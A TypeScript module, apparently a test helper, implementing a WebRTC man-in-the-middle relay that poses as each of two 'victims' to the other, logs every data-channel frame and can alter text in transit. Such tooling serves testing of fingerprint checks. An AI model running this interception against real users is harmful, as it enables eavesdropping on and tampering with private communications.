/** A page of the attacker's, in which connections of two victims end that believe to be connected with each other. */
export interface Relay {
  /** Fingerprint of the certificate of both connections. */
  readonly fingerprint: string;
  /** All that it has read. */
  readonly overheard: readonly Overheard[];
  /** Ids of victims whose default channel was open, one each time. */
  readonly connected: readonly string[];
  /** Takes the description of a victim, if there is one, and makes one for it unless that was an answer. */
  describe(half: HalfName, remote?: RTCSessionDescriptionInit): Promise<void>;
  /** Takes candidates of a victim. */
  add(
    half: HalfName,
    candidates: readonly RTCIceCandidateInit[],
  ): Promise<void>;
}

/** Names one of the two connections. */
export interface HalfName {
  /** Id of the victim at its other end. */
  readonly victim: string;
  /** Generation of the pair; with a new one both begin anew. */
  readonly generation: number;
}

/** A frame that a victim meant for the other one. */
export interface Overheard {
  /** Id of the victim that said it. */
  readonly from: string;
  /** Number of the channel. */
  readonly channel: number;
  /** The frame, one character for each byte. */
  readonly text: string;
}

/** Who is attacked, and how. */
export interface RelayOptions {
  /** Ids of the two victims. */
  readonly victims: readonly [string, string];
  /** What is put in place of what, of the same length, on its way. @default {nothing} */
  readonly alter?: readonly [from: string, to: string];
}

declare global {
  /** The relay of this page. */
  var relay: Relay;
  /** Takes what the relay describes to a victim. */
  var describeTo: (
    half: HalfName,
    description: RTCSessionDescriptionInit,
  ) => void;
}

/** Makes `relay`. Runs in the page. */
export async function defineRelay(
  { victims, alter = ["", ""] }: RelayOptions,
): Promise<void> {
  const overheard: Overheard[] = [];
  const connected: string[] = [];
  const certificate = await RTCPeerConnection.generateCertificate(
    { name: "ECDSA", namedCurve: "P-256" } as EcKeyGenParams,
  );
  const [{ algorithm = "", value = "" } = {}] = certificate.getFingerprints();
  type Frame = readonly [channel: number, data: string | ArrayBuffer];

  class Half {
    readonly pc = new RTCPeerConnection({ certificates: [certificate] });
    readonly victim: string;
    other: Half | undefined;
    readonly #channels: RTCDataChannel[] = [];
    /** What the other victim said before a channel was open here. */
    readonly #waiting: Frame[] = [];
    #work: Promise<void> = Promise.resolve();

    constructor(victim: string) {
      this.victim = victim;
      // The channels that both sides make by themselves.
      for (let id = 0; id < 4; id++) {
        const settings = { negotiated: true, id };
        const channel = this.pc.createDataChannel(`${id}`, settings);
        channel.binaryType = "arraybuffer";
        this.#channels.push(channel);
        channel.onopen = () => {
          if (id === 0) connected.push(victim);
          for (const frame of this.#waiting.splice(0)) this.pass(...frame);
        };
        channel.onmessage = ({ data }) => this.#read(id, data);
      }
    }

    /** Does one thing after the other. */
    next(work: () => Promise<void>): Promise<void> {
      return this.#work = this.#work.then(work);
    }

    pass(...[id, data]: Frame): void {
      const channel = this.#channels[id];
      if (channel?.readyState === "open") channel.send(data as string);
      else this.#waiting.push([id, data]);
    }

    #read(channel: number, data: string | ArrayBuffer): void {
      const text = typeof data === "string"
        ? data
        : String.fromCharCode(...new Uint8Array(data));
      overheard.push({ from: this.victim, channel, text });
      const altered = text.replaceAll(...alter);
      const bytes = Uint8Array.from(altered, (each) => each.charCodeAt(0));
      this.other?.pass(
        channel,
        typeof data === "string" ? altered : bytes.buffer,
      );
    }
  }

  let generation = 0;
  let halves: Half[] = [];
  const half = (name: HalfName): Half | undefined => {
    if (name.generation > generation) {
      for (const { pc } of halves) pc.close();
      const [one, two] = halves = victims.map((victim) => new Half(victim));
      if (one) one.other = two;
      if (two) two.other = one;
      generation = name.generation;
    }
    // What is left of an earlier one goes nowhere.
    return name.generation === generation
      ? halves.find(({ victim }) => victim === name.victim)
      : undefined;
  };

  /** Describes a connection, when all its candidates are known. */
  const describe = async ({ pc }: Half, name: HalfName): Promise<void> => {
    const gathered = new Promise<void>((resolve) => {
      pc.onicecandidate = ({ candidate }) => candidate || resolve();
    });
    await pc.setLocalDescription();
    await gathered;
    const { type = "offer", sdp = "" } = pc.localDescription ?? {};
    describeTo(name, { type, sdp });
  };

  globalThis.relay = {
    fingerprint: `${algorithm} ${value.toUpperCase()}`,
    overheard,
    connected,
    async describe(name, remote) {
      const made = half(name);
      await made?.next(async () => {
        if (remote) await made.pc.setRemoteDescription(remote);
        if (remote?.type !== "answer") await describe(made, name);
      });
    },
    async add(name, candidates) {
      const made = half(name);
      await made?.next(async () => {
        for (const each of candidates) await made.pc.addIceCandidate(each);
      });
    },
  };
}
